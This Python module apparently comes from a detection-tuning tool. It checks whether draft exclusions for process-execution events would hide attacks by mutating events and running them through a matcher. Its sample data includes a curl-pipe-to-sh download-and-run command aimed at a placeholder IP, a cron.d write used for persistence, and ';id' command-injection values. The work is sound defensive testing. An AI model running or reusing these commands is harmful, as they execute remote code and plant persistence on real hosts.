"""What an attacker could hide under a draft, found by trying: named mutations of an event that it hides.

Each mutation goes through the matcher; one that the draft hides too is a way in, told with its command line.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from typing import Any

import orjson

from tetratui.core.exclusion import Chars, Exclusion, Pattern
from tetratui.core.noise.columns import Columns
from tetratui.core.noise.matching import Matcher
from tetratui.core.table import build_table
from tetratui.core.tuning.safety.attack_samples import AttackSample, InContext, example, in_context, in_place
from tetratui.core.tuning.safety.risky_binaries import dangerous_alone, interpreter

Body = dict[str, Any]
ATTACK = '-c "curl -s http://198.51.100.66/x.sh | sh"'
"""The arguments that a mutation puts in."""


@dataclass(frozen=True, slots=True)
class Evasion:
    """One way to look like the noise."""

    name: str
    sentence: str
    command: str
    """The command line that was tried, with its parent where that was changed."""
    passes: bool
    """The draft hides it."""


@dataclass(frozen=True, slots=True)
class Risk:
    """What was tried against a draft."""

    evasions: tuple[Evasion, ...]
    context: InContext
    needs_reason: str | None
    """What a person must answer for in writing, or None."""

    @property
    def passing(self) -> tuple[Evasion, ...]:
        """The mutations that the draft hides."""
        return tuple(evasion for evasion in self.evasions if evasion.passes)

    @property
    def sentence(self) -> str:
        """The risk in one sentence."""
        hidden = self.context.tried - self.context.visible
        told = f"of {self.context.tried} attack commands under its own parents and folders it hides {hidden}"
        if not self.passing:
            return f"{told}; none of {len(self.evasions)} disguises tried passes"
        first = self.passing[0]
        names = ", ".join(evasion.name for evasion in self.passing)
        return f"{told}; passes: {names} (for one: {first.command})"


def risk(
    exclusions: Sequence[Exclusion], scope: str = "", attack_samples: Sequence[AttackSample] | None = None
) -> Risk:
    """Try the mutations and the attack samples in context against these exclusions."""
    tried = [mutated for exclusion in exclusions for mutated in _disguised(exclusion)]
    matcher = Matcher(Columns.of(build_table([line for _, _, line in tried])))
    hidden = matcher.any(exclusions).tolist()
    found: dict[str, Evasion] = {}
    for (name, sentence, line), passes in zip(tried, hidden, strict=True):
        if name not in found or (passes and not found[name].passes):
            found[name] = Evasion(name, sentence, _command(orjson.loads(line)), passes)
    context = in_context(exclusions, attack_samples)
    return Risk(tuple(found.values()), context, _needs_reason(exclusions, scope, context))


def _needs_reason(exclusions: Sequence[Exclusion], scope: str, context: InContext) -> str | None:
    hidden = context.tried - context.visible
    if scope == "binary":
        names = (dangerous_alone(pattern.display_text) for one in exclusions for pattern in one.binary)
        return next(filter(None, names), None)
    if scope == "subtree" and hidden:
        return f"a subtree: it would hide {hidden} of {context.tried} attack commands started by that parent"
    if scope == "caller" and hidden and any(interpreter(p.display_text) for one in exclusions for p in one.binary):
        return f"an interpreter under this caller: it would hide {hidden} of {context.tried} attack commands"
    return None


def _disguised(exclusion: Exclusion) -> Iterable[tuple[str, str, bytes]]:
    comment = f'{ATTACK.removesuffix(chr(34))} # {_script(exclusion)}"'
    plain = _event(exclusion, lambda _, __: None)
    for name, sentence, change in (
        ("comment", "append a shell comment that names the script", lambda p, _: _more(p, comment)),
        ("writable folder", "the same name in a folder where anybody writes", lambda p, _: _moved(p)),
        ("suffix", "a longer name that begins the same", lambda p, _: _set(p, "binary", p["binary"] + ".bak")),
        ("same parent", "be started by that parent", _started),
        ("extra arguments", "more arguments after the usual ones", lambda p, _: _more(p, "--output /etc/cron.d/x")),
        ("false parent", "a parent of the same arguments from a writable folder", lambda _, q: _moved(q)),
        ("varying part", "another text where the template lets one vary", lambda p, q: _varied(exclusion, p, q)),
        ("another caller", "the same command started from a web server", lambda _, q: _caller(q)),
        ("longer script path", "a script with the same path behind another folder", lambda p, q: _prefixed(p, q)),
    ):
        line = _event(exclusion, change)
        # A template without a varying part, a command without a path: there is nothing to disguise.
        if line != plain:
            yield name, sentence, line


def _event(exclusion: Exclusion, change: Callable[[Body, Body], None]) -> bytes:
    process: Body = {"exec_id": "", "pid": 4711, "uid": 33, "cwd": "/tmp", "flags": "execve clone"}  # noqa: S108
    process = in_place(process, exclusion)
    process |= {"binary": _first(exclusion.binary, "/usr/bin/true"), "arguments": _first(exclusion.arguments, "")}
    parent = {"exec_id": "", "pid": 4000, "uid": 33, "flags": "execve clone"}
    parent |= {"binary": _first(exclusion.parent_binary, "/usr/bin/bash")}
    parent |= {"arguments": _first(exclusion.parent_arguments, "")}
    change(process, parent)
    body: Body = {"process": process, "parent": parent}
    kind = exclusion.kinds[0]
    if exclusion.policies or exclusion.functions:
        body["policy_name"] = next(iter(exclusion.policies), "")
        body["function_name"] = next(iter(exclusion.functions), "")
    return orjson.dumps({kind.json_key: body, "node_name": "server01", "time": "2026-01-01T00:00:00Z"})


def _first(patterns: Sequence[Pattern], otherwise: str) -> str:
    return example(patterns[0]) if patterns else otherwise


def _script(exclusion: Exclusion) -> str:
    texts = (*exclusion.parent_arguments, *exclusion.arguments, *exclusion.parent_binary, *exclusion.binary)
    return next((text for text in map(example, texts) if "/" in text), "backup.sh")


def _set(body: Body, field: str, text: str) -> None:
    body[field] = text


def _more(process: Body, text: str) -> None:
    process["arguments"] = f"{process['arguments']} {text}".strip()


def _moved(body: Body) -> None:
    body["binary"] = "/tmp/" + body["binary"].rsplit("/", 1)[-1]  # noqa: S108


def _started(process: Body, _: Body) -> None:
    process |= {"binary": "/usr/bin/bash", "arguments": ATTACK}


def _caller(parent: Body) -> None:
    parent |= {"binary": "/usr/sbin/php-fpm8.2", "arguments": "--nodaemonize"}


def _prefixed(process: Body, parent: Body) -> None:
    for body in (process, parent):
        body["arguments"] = body["arguments"].replace("/", "/tmp/x/", 1)  # noqa: S108


def _varied(exclusion: Exclusion, process: Body, parent: Body) -> None:
    for body, patterns in ((process, exclusion.arguments), (parent, exclusion.parent_arguments)):
        if patterns:
            body["arguments"] = _hostile(patterns[0])


def _hostile(pattern: Pattern) -> str:
    """Fill each part that may hold any word with an attacker's path."""
    texts = []
    for part in pattern.parts:
        if isinstance(part, Chars) and part.chars.startswith("^"):
            texts.append("x;id" if "/" in part.chars else "/tmp/x;id")  # noqa: S108
        else:
            texts.append(example(Pattern((part,))))
    return "".join(texts)


def _command(event: Body) -> str:
    body = event[next(iter(event))]
    process, parent = body["process"], body["parent"]
    caller = f"{parent['binary']} {parent['arguments']}".strip()
    return f"{process['binary']} {process['arguments']}".strip() + f", started by {caller}"
